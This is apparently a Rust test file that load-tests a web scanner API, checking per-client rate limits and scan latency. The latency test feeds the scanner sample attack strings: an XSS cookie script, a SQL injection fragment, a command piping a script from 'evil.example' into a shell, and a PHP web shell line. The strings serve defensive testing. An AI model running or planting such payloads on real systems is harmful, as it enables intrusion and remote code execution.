//! Load testing for the scanner API.

use std::time::{Duration, Instant};

use webshield::config::WindowPolicy;
use webshield_sdk::SdkError;

mod common;

#[tokio::test]
async fn test_concurrent_clients_get_exact_capacity() {
    let mut config = common::memory_config();
    config.rate_limit.scan = WindowPolicy::per_minute(25);
    let server = common::spawn_server(config).await;

    // 4 clients, 10 tasks each, 5 requests per task: 50 attempts per client.
    let clients = 4;
    let tasks_per_client = 10;
    let requests_per_task = 5;

    let start = Instant::now();
    let mut handles = Vec::new();
    for c in 0..clients {
        for _ in 0..tasks_per_client {
            let client = server
                .client()
                .with_forwarded_for(&format!("10.1.0.{c}"))
                .unwrap();
            handles.push(tokio::spawn(async move {
                let mut admitted = 0;
                let mut limited = 0;
                for _ in 0..requests_per_task {
                    match client.scan("GET /index.html").await {
                        Ok(_) => admitted += 1,
                        Err(SdkError::RateLimited { .. }) => limited += 1,
                        Err(err) => panic!("unexpected error: {err}"),
                    }
                }
                (c, admitted, limited)
            }));
        }
    }

    let mut admitted = vec![0; clients];
    let mut limited = vec![0; clients];
    for handle in handles {
        let (c, ok, denied) = handle.await.unwrap();
        admitted[c] += ok;
        limited[c] += denied;
    }
    let elapsed = start.elapsed();

    println!(
        "{} requests in {:?} ({:.0} req/s)",
        clients * tasks_per_client * requests_per_task,
        elapsed,
        (clients * tasks_per_client * requests_per_task) as f64 / elapsed.as_secs_f64()
    );

    for c in 0..clients {
        assert_eq!(admitted[c], 25, "client {c} admitted");
        assert_eq!(limited[c], 25, "client {c} limited");
    }

    // Every admitted scan ends up in the log.
    let logs = common::wait_for_logs(&server.client().with_forwarded_for("10.9.9.9").unwrap(), 100).await;
    assert_eq!(logs.len(), 100);

    server.stop().await;
}

#[tokio::test]
async fn test_scan_latency_under_load() {
    let mut config = common::memory_config();
    config.rate_limit.enabled = false;
    let server = common::spawn_server(config).await;

    let payloads = [
        "hello world",
        "<script>alert(document.cookie)</script>",
        "' OR 1=1 -- ",
        "curl http://evil.example/x.sh | sh",
        "<?php system($_GET['cmd']); ?>",
    ];

    let mut handles = Vec::new();
    for i in 0..20 {
        let client = server.client();
        let payload = payloads[i % payloads.len()].to_string();
        handles.push(tokio::spawn(async move {
            let mut slowest = Duration::ZERO;
            for _ in 0..10 {
                let started = Instant::now();
                client.scan(&payload).await.unwrap();
                slowest = slowest.max(started.elapsed());
            }
            slowest
        }));
    }

    let mut slowest = Duration::ZERO;
    for handle in handles {
        slowest = slowest.max(handle.await.unwrap());
    }
    println!("slowest scan: {:?}", slowest);
    assert!(slowest < Duration::from_secs(2));

    server.stop().await;
}
